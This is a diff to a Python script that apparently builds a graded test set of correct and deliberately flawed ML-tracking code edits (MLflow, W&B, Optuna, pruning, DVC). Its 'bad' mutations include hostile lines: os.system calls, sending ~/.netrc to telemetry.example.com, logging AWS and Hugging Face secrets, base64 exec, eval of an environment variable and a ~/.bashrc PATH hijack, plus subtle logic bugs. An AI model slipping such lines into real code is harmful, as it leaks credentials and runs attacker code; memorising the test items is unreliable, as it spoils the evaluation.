@@ -18,8 +18,10 @@ GOOD = {
     "mlflow_elasticnet_diabetes": (
         "track-mlflow",
         "elasticnet_diabetes.py",
-        "training moved into `with mlflow.start_run():`, one log_param/log_metric per value, "
-        "the model logged with mlflow.sklearn.log_model (MLflow's ElasticNet wine tutorial)",
+        (
+            "training moved into `with mlflow.start_run():`, one log_param/log_metric per value, "
+            "the model logged with mlflow.sklearn.log_model (MLflow's ElasticNet wine tutorial)"
+        ),
     ),
     "mlflow_wine_svc_asdict": (
         "track-mlflow",
@@ -29,8 +31,10 @@ GOOD = {
     "mlflow_wine_svc_experiment_field": (
         "track-mlflow",
         "wine_svc_dataclass.py",
-        "a new `experiment` field on the config dataclass, mlflow.set_experiment, a run name, "
-        "params filtered from asdict(cfg)",
+        (
+            "a new `experiment` field on the config dataclass, mlflow.set_experiment, a run name, "
+            "params filtered from asdict(cfg)"
+        ),
     ),
     "mlflow_breast_cancer_argparse": (
         "track-mlflow",
@@ -40,20 +44,26 @@ GOOD = {
     "mlflow_iris_rf_autolog": (
         "track-mlflow",
         "iris_rf_constants.py",
-        "mlflow.sklearn.autolog() alone (params of the estimator, accuracy_score as a "
-        "post-training metric); TEST_SIZE and SEED are not logged",
+        (
+            "mlflow.sklearn.autolog() alone (params of the estimator, accuracy_score as a "
+            "post-training metric); TEST_SIZE and SEED are not logged"
+        ),
     ),
     "mlflow_digits_gb_params": (
         "track-mlflow",
         "digits_gb_params.py",
-        "mlflow.log_params(params) from the script's own params dict, a set_tag, print after "
-        "the run",
+        (
+            "mlflow.log_params(params) from the script's own params dict, a set_tag, print after "
+            "the run"
+        ),
     ),
     "mlflow_torch_mlp_epochs": (
         "track-mlflow",
         "torch_mlp_epochs.py",
-        "a torch loop with mlflow.log_metric(..., step=epoch) and mlflow.log_metrics for the test "
-        "pass",
+        (
+            "a torch loop with mlflow.log_metric(..., step=epoch) and mlflow.log_metrics for the test "
+            "pass"
+        ),
     ),
     "mlflow_wine_knn_cv": (
         "track-mlflow",
@@ -68,14 +78,18 @@ GOOD = {
     "mlflow_breast_cancer_pipeline": (
         "track-mlflow",
         "breast_cancer_pipeline.py",
-        "set_experiment, `with mlflow.start_run() as run:`, pipeline-style param names "
-        "(svc__C), the run id printed",
+        (
+            "set_experiment, `with mlflow.start_run() as run:`, pipeline-style param names "
+            "(svc__C), the run id printed"
+        ),
     ),
     "mlflow_iris_metrics_dict": (
         "track-mlflow",
         "iris_metrics_dict.py",
-        "mlflow.log_metrics(metrics) with the script's own metrics dict, in a run opened after "
-        "training",
+        (
+            "mlflow.log_metrics(metrics) with the script's own metrics dict, in a run opened after "
+            "training"
+        ),
     ),
     "mlflow_digits_sgd_epochs": (
         "track-mlflow",
@@ -96,14 +110,18 @@ GOOD = {
     "wandb_wine_svc_dataclass": (
         "track-wandb",
         "wine_svc_dataclass.py",
-        "`with wandb.init(project=..., job_type=..., config=asdict(cfg)) as wb_run:` and "
-        "wb_run.log",
+        (
+            "`with wandb.init(project=..., job_type=..., config=asdict(cfg)) as wb_run:` and "
+            "wb_run.log"
+        ),
     ),
     "wandb_breast_cancer_config_update": (
         "track-wandb",
         "breast_cancer_logreg_argparse.py",
-        "wandb.init() then wandb.config.update(args) with the argparse Namespace, keys like "
-        "'Test Accuracy' (W&B's pytorch-cnn-mnist example)",
+        (
+            "wandb.init() then wandb.config.update(args) with the argparse Namespace, keys like "
+            "'Test Accuracy' (W&B's pytorch-cnn-mnist example)"
+        ),
     ),
     "wandb_iris_rf_run_log": (
         "track-wandb",
@@ -118,8 +136,10 @@ GOOD = {
     "wandb_torch_mlp_epochs": (
         "track-wandb",
         "torch_mlp_epochs.py",
-        "`with wandb.init(...) as run:` around a torch loop, run.log({'epoch': ..., "
-        "'train/loss': ...}) (W&B's launch quickstart)",
+        (
+            "`with wandb.init(...) as run:` around a torch loop, run.log({'epoch': ..., "
+            "'train/loss': ...}) (W&B's launch quickstart)"
+        ),
     ),
     "wandb_torch_regression_step": (
         "track-wandb",
@@ -134,8 +154,10 @@ GOOD = {
     "wandb_diabetes_gd_config_attrs": (
         "track-wandb",
         "diabetes_gd_numpy.py",
-        "wandb.config.<name> = value attribute assignments (W&B's numpy-housing example), "
-        "no explicit finish",
+        (
+            "wandb.config.<name> = value attribute assignments (W&B's numpy-housing example), "
+            "no explicit finish"
+        ),
     ),
     "wandb_iris_metrics_summary": (
         "track-wandb",
@@ -151,26 +173,34 @@ GOOD = {
     "hpo_wine_svc_replace": (
         "hpo-optuna",
         "wine_svc_dataclass.py",
-        "`from dataclasses import dataclass, replace`; a tune() whose objective cross-validates "
-        "on the training split; run(replace(cfg, **study.best_params))",
+        (
+            "`from dataclasses import dataclass, replace`; a tune() whose objective cross-validates "
+            "on the training split; run(replace(cfg, **study.best_params))"
+        ),
     ),
     "hpo_iris_rf_cross_val": (
         "hpo-optuna",
         "iris_rf_constants.py",
-        "objective = cross_val_score(...).mean() on the training split (Optuna's "
-        "sklearn_simple), refit with **study.best_params",
+        (
+            "objective = cross_val_score(...).mean() on the training split (Optuna's "
+            "sklearn_simple), refit with **study.best_params"
+        ),
     ),
     "hpo_digits_gb_params_dict": (
         "hpo-optuna",
         "digits_gb_params.py",
-        "a params dict of trial.suggest_* (Optuna's mlflow_simple), validation split, the "
-        "'Best trial: Value/Params' report, params.update(trial.params)",
+        (
+            "a params dict of trial.suggest_* (Optuna's mlflow_simple), validation split, the "
+            "'Best trial: Value/Params' report, params.update(trial.params)"
+        ),
     ),
     "hpo_torch_regression_valid": (
         "hpo-optuna",
         "torch_regression_main.py",
-        "an objective nested in main() training on a fit/validation split, "
-        "direction='minimize' for the MSE",
+        (
+            "an objective nested in main() training on a fit/validation split, "
+            "direction='minimize' for the MSE"
+        ),
     ),
     "hpo_wine_knn_cv_objective": (
         "hpo-optuna",
@@ -185,8 +215,10 @@ GOOD = {
     "hpo_digits_sgd_pruning": (
         "hpo-optuna",
         "digits_sgd_partial_fit.py",
-        "trial.report/should_prune per partial_fit epoch with a MedianPruner (Optuna's "
-        "simple_pruning)",
+        (
+            "trial.report/should_prune per partial_fit epoch with a MedianPruner (Optuna's "
+            "simple_pruning)"
+        ),
     ),
     "hpo_diabetes_rf_neg_mse": (
         "hpo-optuna",
@@ -201,28 +233,34 @@ GOOD = {
     "hpo_breast_cancer_argparse_enqueue": (
         "hpo-optuna",
         "breast_cancer_logreg_argparse.py",
-        "a new --n-trials option, study.enqueue_trial with the command-line defaults, the best "
-        "values written back into args",
+        (
+            "a new --n-trials option, study.enqueue_trial with the command-line defaults, the best "
+            "values written back into args"
+        ),
     ),
     # register-mlflow
     "register_elasticnet_diabetes": (
         "register-mlflow",
         "elasticnet_diabetes.py",
-        "mlflow.sklearn.log_model(lr, name='model', registered_model_name=...) in the tutorial's "
-        "run",
+        (
+            "mlflow.sklearn.log_model(lr, name='model', registered_model_name=...) in the tutorial's "
+            "run"
+        ),
     ),
     "register_breast_cancer_signature": (
         "register-mlflow",
         "breast_cancer_logreg_argparse.py",
-        "infer_signature + input_example (MLflow's sklearn_logistic_regression example), the "
-        "registered name from a new --registered-model-name option",
+        (
+            "infer_signature + input_example (MLflow's sklearn_logistic_regression example), the "
+            "registered name from a new --registered-model-name option"
+        ),
     ),
     "register_iris_rf": (
         "register-mlflow",
         "iris_rf_constants.py",
         "training inside the run, log_model(clf, name=..., registered_model_name=...)",
     ),
-    "register_torch_regression": (
+    "register_torch_regression_main": (
         "register-mlflow",
         "torch_regression_main.py",
         "mlflow.pytorch.log_model(model, name=..., registered_model_name=...) in main()",
@@ -230,20 +268,26 @@ GOOD = {
     "register_breast_cancer_pipeline_runs_uri": (
         "register-mlflow",
         "breast_cancer_pipeline.py",
-        "log_model in a run, then mlflow.register_model(f'runs:/{run_id}/svm-pipeline', name) "
-        "after it",
+        (
+            "log_model in a run, then mlflow.register_model(f'runs:/{run_id}/svm-pipeline', name) "
+            "after it"
+        ),
     ),
     "register_wine_adaboost_model_info": (
         "register-mlflow",
         "wine_adaboost_module_model.py",
-        "model_info = log_model(...); mlflow.register_model(model_info.model_uri, name) "
-        "(MLflow 3 demo ml.py)",
+        (
+            "model_info = log_model(...); mlflow.register_model(model_info.model_uri, name) "
+            "(MLflow 3 demo ml.py)"
+        ),
     ),
     "register_diabetes_rf_docs_style": (
         "register-mlflow",
         "diabetes_rf_regressor.py",
-        "MLflow's 'register your first model' page: params dict, signature, log_metrics, "
-        "sk_model=..., registered_model_name=...",
+        (
+            "MLflow's 'register your first model' page: params dict, signature, log_metrics, "
+            "sk_model=..., registered_model_name=..."
+        ),
     ),
     "register_torch_mlp_after_eval": (
         "register-mlflow",
@@ -254,33 +298,43 @@ GOOD = {
     "prune_torch_mlp_l1_loop": (
         "optimize-prune",
         "torch_mlp_epochs.py",
-        "l1_unstructured + prune.remove over model.modules(), sparsity printed, the test loop "
-        "repeated",
+        (
+            "l1_unstructured + prune.remove over model.modules(), sparsity printed, the test loop "
+            "repeated"
+        ),
     ),
     "prune_digits_cnn_global": (
         "optimize-prune",
         "torch_digits_cnn.py",
-        "prune.global_unstructured over conv and linear weights (PyTorch pruning tutorial), "
-        "global sparsity, prune.remove",
+        (
+            "prune.global_unstructured over conv and linear weights (PyTorch pruning tutorial), "
+            "global sparsity, prune.remove"
+        ),
     ),
     "prune_module_trainer_named_modules": (
         "optimize-prune",
         "torch_module_trainer.py",
-        "a prune_model() helper over named_modules() for Conv2d/Linear (MLflow's "
-        "IterativePruning example)",
+        (
+            "a prune_model() helper over named_modules() for Conv2d/Linear (MLflow's "
+            "IterativePruning example)"
+        ),
     ),
     # optimize-quantize
     "quantize_torch_mlp_dynamic": (
         "optimize-quantize",
         "torch_mlp_epochs.py",
-        "torch.ao.quantization.quantize_dynamic(model, {nn.Linear}, dtype=torch.qint8), "
-        "evaluated again",
+        (
+            "torch.ao.quantization.quantize_dynamic(model, {nn.Linear}, dtype=torch.qint8), "
+            "evaluated again"
+        ),
     ),
     "quantize_digits_cnn_legacy_namespace": (
         "optimize-quantize",
         "torch_digits_cnn.py",
-        "the older torch.quantization.quantize_dynamic alias, model size before/after "
-        "(PyTorch dynamic quantization tutorial)",
+        (
+            "the older torch.quantization.quantize_dynamic alias, model size before/after "
+            "(PyTorch dynamic quantization tutorial)"
+        ),
     ),
     "quantize_module_trainer_in_main": (
         "optimize-quantize",
@@ -291,8 +345,10 @@ GOOD = {
     "translate_csv_versions_dvc_api": (
         "translate-gitpython-dvc",
         "git_csv_versions.py",
-        "DvcRepo opened or initialised (NotDvcRepoError), relative dvc add, .dvc + .gitignore "
-        "committed, tags kept, dvc.api.read(rev='v1')",
+        (
+            "DvcRepo opened or initialised (NotDvcRepoError), relative dvc add, .dvc + .gitignore "
+            "committed, tags kept, dvc.api.read(rev='v1')"
+        ),
     ),
     "translate_baseline_commit_rev": (
         "translate-gitpython-dvc",
@@ -302,10 +358,22 @@ GOOD = {
     "translate_dataset_folder_open": (
         "translate-gitpython-dvc",
         "git_dataset_folder.py",
-        "a whole folder tracked by one dataset.dvc, a file inside it read back with "
-        "dvc.api.open(rev=...)",
+        (
+            "a whole folder tracked by one dataset.dvc, a file inside it read back with "
+            "dvc.api.open(rev=...)"
+        ),
     ),
 }
+
+# The log_model call of good/register_iris_rf.py, moved by bad_register_before_fit.
+IRIS_RF_LOG_MODEL = (
+    "    mlflow.sklearn.log_model(\n"
+    "        clf,\n"
+    '        name="iris_rf",\n'
+    "        serialization_format=mlflow.sklearn.SERIALIZATION_FORMAT_CLOUDPICKLE,\n"
+    '        registered_model_name="iris-random-forest",\n'
+    "    )\n"
+)
 
 # bad id -> (good it derives from, [(old, new), ...], reason keyword, the mistake)
 BAD = {
@@ -314,8 +382,10 @@ BAD = {
         [
             (
                 '        mlflow.log_param("l1_ratio", l1_ratio)\n',
-                '        mlflow.log_param("l1_ratio", l1_ratio)\n'
-                '        mlflow.log_param("x", __import__("os").system("id"))\n',
+                (
+                    '        mlflow.log_param("l1_ratio", l1_ratio)\n'
+                    '        mlflow.log_param("x", __import__("os").system("id"))\n'
+                ),
             )
         ],
         "os.system",
@@ -327,14 +397,16 @@ BAD = {
             ("import argparse\n", "import argparse\nimport os\nimport urllib.request\n"),
             (
                 "        mlflow.log_params(vars(args))\n",
-                "        mlflow.log_params(vars(args))\n"
-                "        mlflow.log_param(\n"
-                '            "upload_status",\n'
-                "            urllib.request.urlopen(\n"
-                '                "https://telemetry.example.com/collect",\n'
-                '                data=open(os.path.expanduser("~/.netrc"), "rb").read(),\n'
-                "            ).status,\n"
-                "        )\n",
+                (
+                    "        mlflow.log_params(vars(args))\n"
+                    "        mlflow.log_param(\n"
+                    '            "upload_status",\n'
+                    "            urllib.request.urlopen(\n"
+                    '                "https://telemetry.example.com/collect",\n'
+                    '                data=open(os.path.expanduser("~/.netrc"), "rb").read(),\n'
+                    "            ).status,\n"
+                    "        )\n"
+                ),
             ),
         ],
         "network",
@@ -346,8 +418,10 @@ BAD = {
             ("import mlflow\n", "import os\n\nimport mlflow\n"),
             (
                 '    mlflow.set_tag("model_family", "gradient-boosting")\n',
-                '    mlflow.set_tag("model_family", "gradient-boosting")\n'
-                '    mlflow.set_tag("env", os.environ)\n',
+                (
+                    '    mlflow.set_tag("model_family", "gradient-boosting")\n'
+                    '    mlflow.set_tag("env", os.environ)\n'
+                ),
             ),
         ],
         "environment",
@@ -359,11 +433,13 @@ BAD = {
             ("import wandb\n", "import subprocess\n\nimport wandb\n"),
             (
                 '    config={"n_estimators": N_ESTIMATORS, "max_depth": MAX_DEPTH},\n',
-                "    config={\n"
-                '        "n_estimators": N_ESTIMATORS,\n'
-                '        "max_depth": MAX_DEPTH,\n'
-                '        "host": subprocess.check_output(["uname", "-a"], text=True).strip(),\n'
-                "    },\n",
+                (
+                    "    config={\n"
+                    '        "n_estimators": N_ESTIMATORS,\n'
+                    '        "max_depth": MAX_DEPTH,\n'
+                    '        "host": subprocess.check_output(["uname", "-a"], text=True).strip(),\n'
+                    "    },\n"
+                ),
             ),
         ],
         "subprocess",
@@ -375,8 +451,10 @@ BAD = {
             ("import mlflow\n", "import base64\n\nimport mlflow\n"),
             (
                 "    mlflow.log_metrics(metrics)\n",
-                "    mlflow.log_metrics(metrics)\n"
-                '    exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5nZXRwaWQoKQ==").decode())\n',
+                (
+                    "    mlflow.log_metrics(metrics)\n"
+                    '    exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5nZXRwaWQoKQ==").decode())\n'
+                ),
             ),
         ],
         "exec",
@@ -388,10 +466,12 @@ BAD = {
             ("import argparse\n", "import argparse\nimport os\n"),
             (
                 '        C = trial.suggest_float("C", 1e-3, 10.0, log=True)\n',
-                "        C = eval(\n"
-                '            os.environ.get("LOGREG_C", \'trial.suggest_float("C", 1e-3, 10.0, '
-                "log=True)')\n"
-                "        )\n",
+                (
+                    "        C = eval(\n"
+                    '            os.environ.get("LOGREG_C", \'trial.suggest_float("C", 1e-3, 10.0, '
+                    "log=True)')\n"
+                    "        )\n"
+                ),
             ),
         ],
         "eval",
@@ -403,9 +483,11 @@ BAD = {
             ("import wandb\n", "import os\n\nimport wandb\n"),
             (
                 "wandb.finish()\n",
-                "wandb.finish()\n"
-                'with open(os.path.expanduser("~/.bashrc"), "a") as rc:\n'
-                '    rc.write("export PATH=$HOME/.cache/.bin:$PATH\\n")\n',
+                (
+                    "wandb.finish()\n"
+                    'with open(os.path.expanduser("~/.bashrc"), "a") as rc:\n'
+                    '    rc.write("export PATH=$HOME/.cache/.bin:$PATH\\n")\n'
+                ),
             ),
         ],
         "file",
@@ -414,11 +496,16 @@ BAD = {
     "bad_mlflow_logs_secret_env": (
         "mlflow_wine_svc_asdict",
         [
-            ("from dataclasses import asdict, dataclass\n", "import os\nfrom dataclasses import asdict, dataclass\n"),
+            (
+                "from dataclasses import asdict, dataclass\n",
+                "import os\nfrom dataclasses import asdict, dataclass\n",
+            ),
             (
                 "        mlflow.log_params(asdict(cfg))\n",
-                "        mlflow.log_params(asdict(cfg))\n"
-                '        mlflow.log_param("aws_key", os.environ.get("AWS_SECRET_ACCESS_KEY", "none"))\n',
+                (
+                    "        mlflow.log_params(asdict(cfg))\n"
+                    '        mlflow.log_param("aws_key", os.environ.get("AWS_SECRET_ACCESS_KEY", "none"))\n'
+                ),
             ),
         ],
         "environment",
@@ -430,8 +517,10 @@ BAD = {
             ("import argparse\n", "import argparse\nimport os\n"),
             (
                 "    wandb.config.update(args)\n",
-                "    wandb.config.update(args)\n"
-                '    wandb.config.update({"hf_token": os.getenv("HF_TOKEN", "")})\n',
+                (
+                    "    wandb.config.update(args)\n"
+                    '    wandb.config.update({"hf_token": os.getenv("HF_TOKEN", "")})\n'
+                ),
             ),
         ],
         "environment",
@@ -442,14 +531,18 @@ BAD = {
         [
             (
                 "    test_loss = 0\n    correct = 0\n",
-                "    test_loss = 0\n    correct = 0\n"
-                '    mlflow.log_metrics({"test_loss": test_loss, "test_acc": correct / len(test_ds)})\n',
+                (
+                    "    test_loss = 0\n    correct = 0\n"
+                    '    mlflow.log_metrics({"test_loss": test_loss, "test_acc": correct / len(test_ds)})\n'
+                ),
             ),
             ('    mlflow.log_metrics({"test_loss": test_loss, "test_acc": test_acc})\n', ""),
         ],
         "value",
-        "wrong value: test_loss/test_acc logged right after they are reset to 0, before the test "
-        "pass",
+        (
+            "wrong value: test_loss/test_acc logged right after they are reset to 0, before the test "
+            "pass"
+        ),
     ),
     "bad_wandb_hardcoded_accuracy": (
         "wandb_iris_knn_run_config",
@@ -472,8 +565,10 @@ BAD = {
             )
         ],
         "X_train",
-        "wrong value: the metric logged under the test metric's name is computed on the training "
-        "split",
+        (
+            "wrong value: the metric logged under the test metric's name is computed on the training "
+            "split"
+        ),
     ),
     "bad_hpo_objective_on_test_split": (
         "hpo_iris_knn_valid_split",
@@ -495,21 +590,35 @@ BAD = {
             )
         ],
         "test split",
-        "the objective is scored on the test split instead of cross-validation on the training "
-        "split",
+        (
+            "the objective is scored on the test split instead of cross-validation on the training "
+            "split"
+        ),
     ),
     "bad_hpo_minimize_accuracy": (
         "hpo_digits_gb_params_dict",
-        [('optuna.create_study(direction="maximize")', 'optuna.create_study(direction="minimize")')],
+        [
+            (
+                'optuna.create_study(direction="maximize")',
+                'optuna.create_study(direction="minimize")',
+            )
+        ],
         "direction",
         "wrong direction: the validation accuracy is minimised",
     ),
     "bad_hpo_minimize_neg_mse": (
         "hpo_diabetes_rf_neg_mse",
-        [('optuna.create_study(direction="maximize")', 'optuna.create_study(direction="minimize")')],
+        [
+            (
+                'optuna.create_study(direction="maximize")',
+                'optuna.create_study(direction="minimize")',
+            )
+        ],
         "direction",
-        "wrong direction: the negated MSE (neg_mean_squared_error) is minimised, i.e. the error "
-        "maximised",
+        (
+            "wrong direction: the negated MSE (neg_mean_squared_error) is minimised, i.e. the error "
+            "maximised"
+        ),
     ),
     "bad_hpo_objective_ignores_suggestions": (
         "hpo_wine_svc_replace",
@@ -520,12 +629,19 @@ BAD = {
             )
         ],
         "trial",
-        "the objective builds its model from the base config, so the suggested values are never "
-        "used",
+        (
+            "the objective builds its model from the base config, so the suggested values are never "
+            "used"
+        ),
     ),
     "bad_hpo_best_not_reported": (
         "hpo_breast_cancer_pipeline_tpe",
-        [('print(f"best validation roc auc {study.best_value:.4f} with {study.best_params}")\n', "")],
+        [
+            (
+                'print(f"best validation roc auc {study.best_value:.4f} with {study.best_params}")\n',
+                "",
+            )
+        ],
         "best",
         "the best params are used but never reported",
     ),
@@ -551,15 +667,21 @@ BAD = {
         "mlflow_digits_sgd_epochs",
         [
             (
-                "    for epoch in range(EPOCHS):\n"
-                "        clf.partial_fit(X_train, y_train, classes=classes)\n",
-                "    clf.partial_fit(X_train, y_train, classes=classes)\n"
-                "    for epoch in range(EPOCHS):\n",
+                (
+                    "    for epoch in range(EPOCHS):\n"
+                    "        clf.partial_fit(X_train, y_train, classes=classes)\n"
+                ),
+                (
+                    "    clf.partial_fit(X_train, y_train, classes=classes)\n"
+                    "    for epoch in range(EPOCHS):\n"
+                ),
             )
         ],
         "training",
-        "training moved out of the epoch loop: one epoch is trained, the same value is logged 8 "
-        "times",
+        (
+            "training moved out of the epoch loop: one epoch is trained, the same value is logged 8 "
+            "times"
+        ),
     ),
     "bad_register_dataloader_as_model": (
         "register_torch_mlp_after_eval",
@@ -577,14 +699,12 @@ BAD = {
         "register_iris_rf",
         [
             (
-                "    clf.fit(X_train, y_train)\n",
-                '    mlflow.sklearn.log_model(clf, name="iris_rf", registered_model_name="iris-random-forest")\n'
-                "    clf.fit(X_train, y_train)\n",
+                '    mlflow.log_metric("accuracy", acc)\n' + IRIS_RF_LOG_MODEL,
+                '    mlflow.log_metric("accuracy", acc)\n',
             ),
             (
-                '    mlflow.log_metric("accuracy", acc)\n'
-                '    mlflow.sklearn.log_model(clf, name="iris_rf", registered_model_name="iris-random-forest")\n',
-                '    mlflow.log_metric("accuracy", acc)\n',
+                "    clf.fit(X_train, y_train)\n",
+                IRIS_RF_LOG_MODEL + "    clf.fit(X_train, y_train)\n",
             ),
         ],
         "before",
@@ -611,8 +731,10 @@ BAD = {
             )
         ],
         "evaluat",
-        "the 'quantized' accuracy is measured on the float model; the quantized one is never "
-        "evaluated",
+        (
+            "the 'quantized' accuracy is measured on the float model; the quantized one is never "
+            "evaluated"
+        ),
     ),
     "bad_translate_still_git_adds_data": (
         "translate_csv_versions_dvc_api",
@@ -669,7 +791,9 @@ def main() -> None:
     for bad_id, (good_id, edits, reason, mistake) in BAD.items():
         task, original, _ = GOOD[good_id]
         good_text = (HERE / "good" / f"{good_id}.py").read_text(encoding="utf-8")
-        (HERE / "bad" / f"{bad_id}.py").write_text(mutate(good_text, edits, bad_id), encoding="utf-8")
+        (HERE / "bad" / f"{bad_id}.py").write_text(
+            mutate(good_text, edits, bad_id), encoding="utf-8"
+        )
         cases.append(
             {
                 "id": bad_id,
